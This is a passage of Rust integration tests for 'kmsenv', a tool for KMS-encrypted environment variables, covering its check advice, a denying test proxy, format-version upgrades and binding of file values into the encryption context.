            .any(|l| l.contains("RAW_TOKEN") && l.contains(&victim.path()) && l.contains("not bound")),
        "{}",
        out.stderr
    );
}

/// Direct values cost one KMS call each at every start: with more than one,
/// `check` says so and how to seal them (one call per file).
#[test]
fn check_advises_sealing_when_direct_values_cost_a_kms_call_each() {
    let victim = Victim::new();
    let advice = |stderr: &str| {
        stderr
            .lines()
            .find(|l| l.contains("KMS calls at every start"))
            .map(str::to_string)
    };
    // One direct value (API_TOKEN) next to sealed ones: no advice.
    let out = victim.kmsenv().arg("check").run().ok();
    assert_eq!(advice(&out.stderr), None, "{}", out.stderr);

    let kms = ["--kms", "--key", victim.key()];
    victim
        .sandbox
        .set_with(&victim.file, &kms, "PARTNER_TOKEN", b"partner-token");
    let out = victim.kmsenv().arg("check").run().ok();

    let line = advice(&out.stderr).unwrap_or_else(|| panic!("no advice in:\n{}", out.stderr));
    for needle in [
        victim.path().as_str(),
        "2 direct kms values cost 3 KMS calls",
        "one per file",
        "kmsenv set NAME",
    ] {
        assert!(line.contains(needle), "{needle:?} in {line:?}");
    }
}

#[test]
fn check_fails_on_a_stripped_file_that_mixes_plain_and_kms_values() {
    let victim = Victim::new();
    strip_and_downgrade(&victim);

    victim
        .kmsenv()
        .arg("check")
        .run()
        .kmsenv_error(&[&victim.path(), "no [[kmsenv.keys]]"]);
}

// ---------------------------------------------------------------------------
// The instruments the tests above rely on

#[test]
fn the_proxy_sees_which_key_a_rotate_wraps_to() {
    // Without this, "nothing was encrypted to the attacker's key" could hold only
    // because the proxy's log never names a key.
    let victim = Victim::new();
    victim.proxy.reset();

    victim.kmsenv().arg("rotate").run().ok();

    assert!(
        !victim.calls_to(&WRAPPING_OPS, victim.key()).is_empty(),
        "{:?}",
        victim.proxy.requests()
    );
}

#[test]
fn the_proxy_denies_an_encrypt_whose_context_lacks_kmsenv_var() {
    let victim = Victim::new();
    victim.proxy.rules(
        r#"[{"op": "Encrypt", "context_lacks": "kmsenv:var", "action": "error", "code": "AccessDeniedException"}]"#,
    );

    let denied = encrypt_through(&victim.proxy, victim.key(), b"x", &[APP]);
    let allowed = encrypt_through(&victim.proxy, victim.key(), b"x", &[APP, ("kmsenv:var", "X")]);

    assert!(
        denied.is_err_and(|e| e.body.contains("AccessDeniedException")),
        "denied without kmsenv:var"
    );
    assert!(allowed.is_ok(), "allowed with kmsenv:var: {allowed:?}");
}

#[test]
fn check_of_a_version_1_file_passes_with_the_upgrade_warning() {
    let victim = version_1_victim();

    let out = victim.kmsenv().arg("check").run().ok();

    let warning = warnings(&out.stderr);
    assert_eq!(warning.len(), 1, "{}", out.stderr);
    assert!(
        warning[0].contains("format version 1") && warning[0].contains("kmsenv upgrade"),
        "{}",
        out.stderr
    );
}

#[test]
fn upgrade_binds_the_file_flag_of_a_version_1_kms_value_in_its_context() {
    // Before format 2, `set --kms --as-file` did not put kmsenv:file in the context.
    let victim = version_1_victim();
    let blob = encrypt(
        REGION,
        victim.key(),
        TLS_KEY_VALUE.as_bytes(),
        &[APP, ("kmsenv:var", "TLS_KEY")],
    );
    victim.edit(|text| {
        insert_in_env(
            text,
            &format!(
                "TLS_KEY = {{ kms = \"{blob}\", key = \"{}\", context = {{ app = \"billing\", \"kmsenv:var\" = \"TLS_KEY\" }}, file = true }}",
                victim.key()
            ),
        )
    });
    victim.assert_runs(plain);

    victim.kmsenv().arg("upgrade").run().ok();

    let text = victim.text();
    let line = entry_line(&text, "TLS_KEY");
    assert!(
        line.contains("\"kmsenv:file\" = \"true\"") && line.contains("file = true"),
        "{line}"
    );
    let env = victim.sandbox.exec_env(&[&victim.file]);
    let path = String::from_utf8(env["TLS_KEY"].clone()).expect("a path");
    assert!(path.starts_with("/proc/self/fd/"), "{path}");
}

#[test]
fn a_write_to_a_version_1_file_with_an_unbound_file_value_asks_for_upgrade_first() {
    let victim = version_1_victim();
    let blob = encrypt(
        REGION,
        victim.key(),
        TLS_KEY_VALUE.as_bytes(),
        &[APP, ("kmsenv:var", "TLS_KEY")],
    );
    victim.edit(|text| {
        insert_in_env(
            text,
            &format!(
                "TLS_KEY = {{ kms = \"{blob}\", key = \"{}\", context = {{ app = \"billing\", \"kmsenv:var\" = \"TLS_KEY\" }}, file = true }}",
                victim.key()
            ),
        )
    });
    let before = victim.text();

    victim
        .kmsenv()
        .args(["set", "--plain", "LOG_LEVEL=debug"])
        .run()
        .kmsenv_error(&["TLS_KEY", "run `kmsenv upgrade` first"]);

    assert_eq!(victim.text(), before, "nothing was written");
}
